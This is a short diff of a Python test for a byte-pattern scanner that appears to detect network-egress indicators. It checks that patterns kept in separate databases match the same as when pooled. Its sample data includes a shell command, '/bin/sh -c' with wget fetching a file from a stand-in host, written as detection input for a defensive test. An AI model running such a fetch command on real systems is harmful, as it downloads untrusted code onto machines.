@@ -27,7 +27,7 @@ def test_patterns_in_databases_of_their_own_match_as_in_one():
     shared = [replace(p, database=0) for p in registry.patterns().patterns]
     assert any(p.database for p in registry.patterns().patterns)  # the egress patterns use it
     data = (b"see https://update.vendor.example/fw.bin or mail ops@vendor.example, 203.0.113.9 and fe80::1; "
-            b"/bin/sh -c 'wget http://x.example.cn/a' " + "h\x00t\x00t\x00p\x00:\x00/\x00/\x00".encode()) * 40
+            b"/bin/sh -c 'wget http://x.example.cn/a' " + b"h\x00t\x00t\x00p\x00:\x00/\x00/\x00") * 40
     assert registry.patterns().scan(data) == PatternSet(shared).scan(data)
     assert len(PatternSet([Pattern("A/x", b"abc"), Pattern("B/y", b"bcd", database=3)]).scan(b"abcd")[0]) == 2
 
